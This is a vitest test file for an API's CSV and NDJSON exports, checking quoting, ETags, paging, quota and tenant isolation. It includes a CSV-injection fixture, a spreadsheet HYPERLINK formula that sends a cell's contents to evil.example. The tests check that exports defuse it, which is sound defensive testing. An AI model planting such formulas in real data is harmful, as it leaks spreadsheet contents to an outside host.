// CSV and NDJSON exports (docs/EXPORTS.md): every list-shaped read answers them by `format`
// (wins) or `Accept`; CSV parsed back by a well-kept parser (csv-parse) equals the JSON page, titles
// with commas, quotes and newlines included; NDJSON is the items, one per line; cursors, Link, ETags,
// 304s, Data-As-Of and the quota behave as in JSON.
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { createList } from '../../shared/admin/lists';
import { csvField } from '../../shared/http/exports';
import { ARTICLE_A, ARTICLE_C, geoRecords, NOW, TAYLOR } from '../fixtures/geo';
import { seed } from '../helpers/seed';
import { createWorld, show, type Tenant, type World } from '../helpers/world';

/** A title that needs every RFC 4180 rule: a comma, quotes, a line break, and non-ASCII text. */
const TRICKY = 'Swift, "Eras" tour\nadds dates in Zürich';
/** A crawled title a spreadsheet would run as a formula (OWASP "CSV injection"; issue 46 finding 2). */
const FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"Read more")';

let world: World;
let tenant: Tenant;
let listId: string;

beforeAll(async () => {
  world = await createWorld('exports');
  world.setNow(NOW);
  await seed(
    world,
    geoRecords().map((r: any) =>
      r.type === 'article' && r.id === ARTICLE_A
        ? { ...r, title: TRICKY }
        : r.type === 'article' && r.id === ARTICLE_C
          ? { ...r, title: FORMULA }
          : r,
    ),
  );
  tenant = await world.tenant({ plan: 'scale', countries: ['US', 'GB', 'DE', 'FR'] });
  listId = (
    await createList(
      world.db,
      { projectId: tenant.projectId, kind: 'publisher', name: 'news', items: [{ key: 'news.example.com' }, { key: 'zeitung.example.de' }] },
      new Date(NOW),
    )
  ).id;
}, 120_000);

const get = (path: string, headers: Record<string, string> = {}) => world.call(path, { key: tenant.key, headers });

/**
 * What a CSV cell holds for a JSON value: empty for null, JSON text for arrays and objects, a text
 * that begins like a formula behind a `'`.
 */
const cell = (value: unknown) =>
  value === null || value === undefined
    ? ''
    : typeof value === 'object'
      ? JSON.stringify(value)
      : typeof value === 'string' && /^[=+\-@\t\r]/.test(value)
        ? `'${value}`
        : String(value);
const at = (item: unknown, column: string) => column.split('.').reduce<any>((v, k) => (v == null ? undefined : v[k]), item);

/** Parses a CSV answer and checks it row by row, column by column, against the JSON page's items. */
function expectSameRows(csv: string, items: any[]) {
  const rows = parse(csv, { columns: true, bom: true }) as Record<string, string>[];
  expect(rows).toHaveLength(items.length);
  rows.forEach((row, i) => {
    for (const [column, value] of Object.entries(row)) expect(value, `row ${i} ${column}`).toBe(cell(at(items[i], column)));
  });
  return rows;
}

describe('CSV', () => {
  it('the feed as CSV parses back to the JSON page: dotted columns, JSON arrays, RFC 4180 quoting', async () => {
    const json = await get('/v2/feed?period=30d&limit=20');
    expect(json.status, show(json)).toBe(200);
    const csv = await get('/v2/feed?period=30d&limit=20&format=csv');
    expect(csv.status, show(csv)).toBe(200);
    expect(csv.headers.get('Content-Type')).toBe('text/csv; charset=utf-8; header=present');
    const header = csv.text.split('\r\n')[0].split(',');
    expect(header).toContain('impressions.last_24h.current');
    const rows = expectSameRows(csv.text, json.body.items);
    expect(
      rows.some((r) => r.title === TRICKY),
      'the tricky title survives the round trip',
    ).toBe(true);
    expect(csv.text).toContain('"Swift, ""Eras"" tour\nadds dates in Zürich"');
    expect(csv.headers.get('X-Total-Count')).toBe(String(json.body.total));
    expect(csv.headers.get('Data-As-Of')).toBe(json.headers.get('Data-As-Of'));
    expect(csv.headers.get('Vary')).toMatch(/Accept/);
  });

  it('Accept: text/csv asks for it too; format= wins over Accept', async () => {
    const byQuery = await get('/v1/articles?limit=10&format=csv');
    const byAccept = await get('/v1/articles?limit=10', { Accept: 'text/csv' });
    expect(byAccept.status, show(byAccept)).toBe(200);
    expect(byAccept.headers.get('Content-Type')).toMatch(/^text\/csv/);
    expect(byAccept.text).toBe(byQuery.text);
    const json = await get('/v1/articles?limit=10&format=json', { Accept: 'text/csv' });
    expect(json.headers.get('Content-Type')).toMatch(/^application\/json/);
    expectSameRows(byQuery.text, json.body.articles);
  });

  it('every list-shaped read answers CSV that equals its JSON page', async () => {
    const reads: [string, string][] = [
      [`/v1/tracking/lists/${listId}/metrics?period=30d`, 'items'],
      ['/v2/live?since_minutes=1440', 'items'],
      ['/v1/trends', 'trends'],
      ['/v1/entities', 'entities'],
      ['/v1/entities/trending?region=us&period=7d', 'trending_entities'],
      [`/v1/entities/${encodeURIComponent(TAYLOR.name)}/articles`, 'articles'],
      ['/v1/articles', 'articles'],
    ];
    for (const [path, member] of reads) {
      const json = await get(path);
      expect(json.status, `${path} ${show(json)}`).toBe(200);
      const csv = await get(`${path}${path.includes('?') ? '&' : '?'}format=csv`);
      expect(csv.status, `${path} ${show(csv)}`).toBe(200);
      expect(csv.headers.get('Content-Type'), path).toMatch(/^text\/csv/);
      expect(csv.text.split('\r\n')[0], `${path}: a header row even for an empty page`).not.toBe('');
      expectSameRows(csv.text, json.body[member]);
    }
  });

  it('an ETag of its own, and a 304 for it', async () => {
    const json = await get('/v1/entities?limit=5');
    const csv = await get('/v1/entities?limit=5&format=csv');
    expect(csv.headers.get('ETag')).toMatch(/^"[0-9a-f]{32}"$/);
    expect(csv.headers.get('ETag')).not.toBe(json.headers.get('ETag'));
    const again = await get('/v1/entities?limit=5&format=csv', { 'If-None-Match': csv.headers.get('ETag')! });
    expect(again.status).toBe(304);
  });
});

describe('CSV injection (OWASP)', () => {
  it('a crawled title written as a formula reaches every CSV export behind a quote mark, and JSON and NDJSON unchanged', async () => {
    for (const path of ['/v2/feed?period=30d&limit=20', '/v1/articles?limit=20', '/v2/live?since_minutes=1440']) {
      const member = path.startsWith('/v1/articles') ? 'articles' : 'items';
      const json = await get(path);
      expect(json.status, show(json)).toBe(200);
      expect(
        json.body[member].map((i: any) => i.title),
        `${path}: JSON keeps the title as crawled`,
      ).toContain(FORMULA);
      const csv = await get(`${path}&format=csv`);
      const rows = expectSameRows(csv.text, json.body[member]);
      const titles = rows.map((r) => r.title);
      expect(titles, path).toContain(`'${FORMULA}`);
      expect(
        titles.some((t) => /^[=+\-@\t\r]/.test(t)),
        `${path}: no cell a spreadsheet would evaluate`,
      ).toBe(false);
      const nd = await get(`${path}&format=ndjson`);
      expect(nd.text, `${path}: NDJSON unchanged`).toContain(JSON.stringify(FORMULA));
    }
  });

  it('every character a spreadsheet starts a formula with is neutralised; numbers stay numbers', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      const field = csvField(`${start}1+1`);
      expect(field.replace(/^"/, '').startsWith(`'${start}`), JSON.stringify(field)).toBe(true);
    }
    expect(csvField('plain title')).toBe('plain title');
    expect(csvField(-5)).toBe('-5');
    expect(csvField(['=1'])).toBe('"[""=1""]"');
  });
});

describe('NDJSON', () => {
  it('one item per line, equal to the JSON items', async () => {
    const json = await get('/v2/feed?period=30d&limit=20');
    const nd = await get('/v2/feed?period=30d&limit=20&format=ndjson');
    expect(nd.status, show(nd)).toBe(200);
    expect(nd.headers.get('Content-Type')).toBe('application/x-ndjson');
    const lines = nd.text.split('\n');
    expect(lines.pop()).toBe('');
    expect(lines.map((l) => JSON.parse(l))).toEqual(json.body.items);
    const byAccept = await get('/v2/feed?period=30d&limit=20', { Accept: 'application/x-ndjson' });
    expect(byAccept.text).toBe(nd.text);
  });
});

describe('paging, quota and errors', () => {
  it('cursor pages follow Link with the same format', async () => {
    const first = await get('/v2/feed?period=30d&limit=1&format=csv');
    expect(first.status, show(first)).toBe(200);
    const link = first.headers.get('Link');
    expect(link).toMatch(/format=csv/);
    expect(link).toMatch(/cursor=/);
    const next = await get(link!.match(/<([^>]+)>/)![1]);
    expect(next.status, show(next)).toBe(200);
    expect(next.headers.get('Content-Type')).toMatch(/^text\/csv/);
    const ids = [first, next].map((r) => (parse(r.text, { columns: true }) as Record<string, string>[])[0]);
    expect(`${ids[1].url_id}|${ids[1].country}|${ids[1].language}`).not.toBe(`${ids[0].url_id}|${ids[0].country}|${ids[0].language}`);
    // The JSON page's own Link stays JSON, even when a CSV request computed the kept answer.
    const json = await get('/v2/feed?period=30d&limit=1');
    expect(json.headers.get('Link')).not.toMatch(/format=/);
  });

  it('a CSV page costs one request of quota, as in JSON', async () => {
    // Edge limits count in the isolate and reconcile with Redis in the background: read the strict count.
    const used = async () => (await world.call('/v1/usage', { key: tenant.key })).body.month.used as number;
    const before = await used();
    expect((await get('/v1/trends?format=csv&limit=7')).status).toBe(200);
    expect((await get('/v1/trends?format=ndjson&limit=7')).status).toBe(200);
    expect(await used()).toBe(before + 2);
  });

  it("an unknown format is 422 in the spec's error shape; a keyless export is 401", async () => {
    const bad = await get('/v2/feed?format=xml');
    expect(bad.status, show(bad)).toBe(422);
    expect(Array.isArray(bad.body.detail)).toBe(true);
    const keyless = await world.call('/v2/feed?format=csv');
    expect(keyless.status).toBe(401);
  });

  it("another project's list stays 404 in CSV", async () => {
    const other = await world.tenant({ plan: 'scale', countries: ['US'] });
    const reply = await world.call(`/v1/tracking/lists/${listId}/metrics?format=csv`, { key: other.key });
    expect(reply.status).toBe(404);
    expect(reply.headers.get('Content-Type')).toMatch(/^application\/json/);
  });

  it('the bare-array profile of one URL is not an export: format=csv is ignored there', async () => {
    const reply = await get(`/v2/feed/${ARTICLE_C}?format=csv`);
    expect(reply.headers.get('Content-Type')).toMatch(/^application\/json/);
  });
});
